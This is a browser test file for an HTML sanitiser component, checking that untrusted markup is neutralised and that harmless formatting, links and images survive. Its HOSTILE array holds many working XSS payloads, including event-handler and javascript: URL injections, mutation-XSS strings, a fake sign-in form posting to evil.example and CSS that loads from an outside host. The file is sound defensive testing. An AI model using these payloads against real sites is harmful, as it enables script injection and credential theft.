import { afterEach, beforeAll, describe, expect, it, test } from 'vitest'
import { page } from 'vitest/browser'
import { isPictureAllowed } from '../../src/api/http/picture-origins.ts'
import { Pictures } from '../../src/views/safety/Pictures.ts'
import { SafeHtml } from '../../src/views/safety/SafeHtml.tsx'
import { accessibilityProblems } from '../support/accessibility.ts'
import { show } from '../support/show.tsx'

/** The function that any executed script of the blocks would call. */
declare global {
  interface Window {
    hit?: () => void
  }
}

const hits: string[] = []

// The policy of the page (`support/page-at-start.ts`) is the second line of defence.
beforeAll(() => {
  window.hit = () => hits.push('run')
  document.addEventListener('securitypolicyviolation', ({ violatedDirective }) => hits.push(violatedDirective))
})

afterEach(() => {
  hits.length = 0
})

/** The block in the page after it was sanitised. */
async function sanitised(html: string): Promise<HTMLElement> {
  await show(
    <section data-testid="block">
      <SafeHtml html={`<p>start of block</p>${html}`} />
    </section>,
    390,
  )
  const block = page.getByTestId('block').element() as HTMLElement
  await expect.poll(() => block.querySelector('p')?.textContent).toBe('start of block')
  return block
}

it('is tested with Trusted Types in force', async () => {
  expect(() => {
    document.createElement('div').innerHTML = '<b>x</b>'
  }).toThrow(TypeError)
  await expect.poll(() => hits).toEqual(['require-trusted-types-for'])
})

const HOSTILE = [
  '<script>hit()</script>',
  '<img src=x onerror=hit()>',
  '<img src=x onerror=hit()//',
  '<svg onload=hit()></svg>',
  '<svg><script>hit()</script></svg>',
  '<svg><animate onbegin=hit() attributeName=x dur=1s></svg>',
  '<svg><a xlink:href="javascript:hit()"><text y=10>x</text></a></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=hit()>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=hit()></style></mglyph></table></mtext></math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:hit()">x</maction></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>',
  '<a href="javascript:hit()">x</a>',
  '<a href="JaVaScRiPt&colon;hit()">x</a>',
  '<a href="java&#10;script:hit()">x</a>',
  '<a href="&#1;javascript:hit()">x</a>',
  '<a href="data:text/html,<script>hit()</script>">x</a>',
  '<a href="vbscript:hit()">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="https://good.example@evil.example/">x</a>',
  '<iframe src="javascript:hit()"></iframe>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<object data="javascript:hit()"></object>',
  '<embed src="javascript:hit()">',
  '<body onload=hit()>',
  '<details open ontoggle=hit()>x</details>',
  '<video autoplay src=x onerror=hit()></video>',
  '<audio src=x onerror=hit()></audio>',
  '<input autofocus onfocus=hit()>',
  '<select autofocus onfocus=hit()><option>x</select>',
  '<textarea autofocus onfocus=hit()></textarea>',
  '<form action="https://evil.example"><input type="password" name="p"><button>Sign in</button></form>',
  '<button formaction="javascript:hit()">x</button>',
  '<style>*{display:none}</style><style>@import "https://evil.example/x.css"</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<div style="position:fixed;inset:0;background:url(https://evil.example/x)">x</div>',
  '<p class="overlay" style="opacity:0">x</p>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<div id="root">x</div><a id="main" name="main">x</a>',
  '<img name="querySelector" src="/x.png"><form name="getElementById"></form>',
  '<noscript><p title="</noscript><img src=x onerror=hit()>"></noscript>',
  '<template><img src=x onerror=hit()></template>',
  '<img src="https://tracker.example/pixel.gif" width=1 height=1>',
  '<img srcset="https://tracker.example/a.gif 1x" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">',
  '<p onclick="hit()" onmouseover="hit()">x</p>',
  '<marquee onstart=hit()>x</marquee>',
  '<dialog open>x</dialog>',
  '<custom-element is="x">x</custom-element>',
]

const FORBIDDEN = [
  'script',
  'style',
  'link',
  'meta',
  'base',
  'iframe',
  'object',
  'embed',
  'form',
  'input',
  'button',
  'select',
  'textarea',
  'video',
  'audio',
  'svg',
  'math',
  'template',
  'dialog',
  'noscript',
  'marquee',
  'custom-element',
  '[style]',
  '[id]',
  '[name]',
  '[srcset]',
  '[class]:not(.new-window):not(.table-region)',
  '[onclick]',
  '[onerror]',
]

describe('group HTML', () => {
  test.each(HOSTILE)('is inert: %s', async (html) => {
    const block = await sanitised(html)
    const inner = block.firstElementChild
    expect([...(inner?.querySelectorAll(FORBIDDEN.join(',')) ?? [])].map(({ outerHTML }) => outerHTML)).toEqual([])
    for (const element of inner?.querySelectorAll('*') ?? []) {
      const names = element.getAttributeNames().filter((name) => name.startsWith('on') || name.startsWith('data-'))
      expect(names).toEqual([])
    }
    for (const link of inner?.querySelectorAll('a') ?? [])
      expect(link.href).toMatch(/^(https?:\/\/[^@]+$|mailto:|tel:)/)
    for (const image of inner?.querySelectorAll('img') ?? []) expect(new URL(image.src).origin).toBe(location.origin)
    expect(hits).toEqual([])
  })

  test.each([
    ['Plain words', 'Plain words'],
    ['<p>One</p><p>Two</p>', '<p>One</p><p>Two</p>'],
    ['<b>b</b> <i>i</i> <u>u</u> <s>s</s>', '<b>b</b> <i>i</i> <u>u</u> <s>s</s>'],
    ['<strong>s</strong> <em>e</em> <mark>m</mark>', '<strong>s</strong> <em>e</em> <mark>m</mark>'],
    ['<small>s</small> H<sub>2</sub>O m<sup>2</sup>', '<small>s</small> H<sub>2</sub>O m<sup>2</sup>'],
    ['a<br>b<hr>', 'a<br>b<hr>'],
    ['<ul><li>a</li><li>b</li></ul>', '<ul><li>a</li><li>b</li></ul>'],
    ['<ol start="3"><li>a</li></ol>', '<ol start="3"><li>a</li></ol>'],
    ['<dl><dt>Mon</dt><dd>9–12</dd></dl>', '<dl><dt>Mon</dt><dd>9–12</dd></dl>'],
    ['<blockquote>q</blockquote>', '<blockquote>q</blockquote>'],
    ['<pre>a  b</pre> <code>c</code>', '<pre>a  b</pre> <code>c</code>'],
    ['<span lang="de">Guten Tag</span>', '<span lang="de">Guten Tag</span>'],
    ['<p dir="rtl">مرحبا</p>', '<p dir="rtl">مرحبا</p>'],
    ['<abbr title="Value added tax">VAT</abbr>', '<abbr title="Value added tax">VAT</abbr>'],
    ['<a href="mailto:us@example.org">Write</a>', '<a href="mailto:us@example.org">Write</a>'],
    ['<a href="tel:+33123456789">Call</a>', '<a href="tel:+33123456789">Call</a>'],
    ['<address>1 rue A</address>', '<address>1 rue A</address>'],
    ['<del>30</del> <ins>25</ins>', '<del>30</del> <ins>25</ins>'],
    ['5 &lt; 6 &amp; 7 &gt; 6', '5 &lt; 6 &amp; 7 &gt; 6'],
    ['<time datetime="2026-12-24">24 Dec</time>', '<time datetime="2026-12-24">24 Dec</time>'],
    ['<figure>f<figcaption>c</figcaption></figure>', '<figure>f<figcaption>c</figcaption></figure>'],
  ])('survives: %s', async (html, expected) => {
    const block = await sanitised(html)
    expect(block.firstElementChild?.innerHTML).toBe(`<p>start of block</p>${expected}`)
  })

  test.each([
    ['<frameset><frame src=x></frameset>', ''],
    ['<frameset cols="50%,50%"><frame src="/a"></frameset><p>Welcome</p>', 'Welcome'],
    ['<html><head></head><frameset></frameset></html>', ''],
    ['<!doctype html><frameset onload=hit()>', ''],
  ])('a page of frames takes nothing down: %s', async (html, words) => {
    await show(
      <section data-testid="block">
        <SafeHtml html={html} />
        <p>Beside it</p>
      </section>,
      390,
    )
    await expect.poll(() => page.getByTestId('block').element().textContent).toBe(`${words}Beside it`)
    expect(hits).toEqual([])
  })

  it('opens web pages in a new window, and says so', async () => {
    const block = await sanitised('<a href="https://example.org/a" target="_self">Our page</a>')
    const link = block.querySelector('a')
    expect(link?.target).toBe('_blank')
    expect(link?.rel).toBe('noopener noreferrer')
    await expect.element(page.getByRole('link')).toHaveAccessibleName('Our page (opens in a new tab)')
  })

  it('names a link without words by its host', async () => {
    const block = await sanitised('<a href="https://example.org/a"></a>')
    expect(block.querySelector('a')?.textContent).toBe('example.org (opens in a new tab)')
  })

  it('puts its headings below those of the page, without a gap', async () => {
    const block = await sanitised('<h1>A</h1><h4>B</h4><h2>C</h2><h1>D</h1><h3></h3>')
    const headings = [...block.querySelectorAll('h1,h2,h3,h4,h5,h6')].map((one) => one.tagName + one.textContent)
    expect(headings).toEqual(['H3A', 'H4B', 'H4C', 'H3D'])
  })

  it('shows pictures of our own origin, and links to others', async () => {
    const block = await sanitised('<img src="https://elsewhere.example/a.jpg" alt="Our room">')
    expect(block.querySelector('img')).toBeNull()
    expect(block.querySelector('a')?.textContent).toBe('Our room (opens in a new tab)')
    const own = await sanitised(`<img src="${location.origin}/favicon.ico">`)
    expect(own.querySelector('img')?.alt).toBe('')
  })

  it('is accessible, a wide table included', async () => {
    const cells = Array.from({ length: 12 }, (_, index) => `<td>column number ${index}</td>`).join('')
    await sanitised(`<h2>Prices</h2><table><tr><th scope="row">All</th>${cells}</tr></table><img src="/favicon.ico">`)
    document.querySelector('h1')?.after(document.createElement('h2'))
    expect((await accessibilityProblems()).filter((problem) => !problem.startsWith('empty-heading'))).toEqual([])
  })

  it('is looked at for 100,000 characters and no more', async () => {
    await show(<SafeHtml html={`<p>${'a'.repeat(150_000)}</p>`} />, 390)
    await expect.poll(() => document.querySelector('main p')?.textContent?.length).toBe(100_000 - '<p>'.length)
  })

  it('is nothing when it is empty', async () => {
    await show(<SafeHtml html="  " />, 390)
    expect(document.querySelector('main')?.childElementCount).toBe(1)
  })
})

test.each([
  ['of the hosts that the deployment names', ['https://cdn.example.org'], ['https://cdn.example.org/a.png']],
  ['of no other host unless it names some', [], []],
])('pictures %s are shown', async (_, images, expected) => {
  const pictures = ['https://cdn.example.org/a.png', 'https://tracker.example/a.png']
  await show(
    <Pictures value={(url) => isPictureAllowed(url, { apiBase: '', logoStorage: '/logos', images })}>
      <SafeHtml html={`<p>start of block</p>${pictures.map((src) => `<img src="${src}" alt="A">`).join('')}`} />
    </Pictures>,
    390,
  )
  await expect.poll(() => document.querySelector('main p')?.textContent).toBe('start of block')
  expect([...document.querySelectorAll('main img')].map((image) => image.getAttribute('src'))).toEqual(expected)
})

describe('a text that is no HTML', () => {
  test.each([
    ['without a mark', 'Monday: 9 to 12\nTuesday: closed', 'Monday: 9 to 12\nTuesday: closed'],
    ['with an entity', 'Coffee &amp; cake\nTea', 'Coffee & cake\nTea'],
    ['with a sign of its own', 'Fish & chips\n2 < 3', 'Fish & chips\n2 < 3'],
  ])('%s stays in its lines', async (_, html, text) => {
    await show(
      <section data-testid="text">
        <SafeHtml html={html} />
      </section>,
      390,
    )
    const block = page.getByTestId('text').element() as HTMLElement
    await expect.poll(() => block.innerText).toBe(text)
  })
})
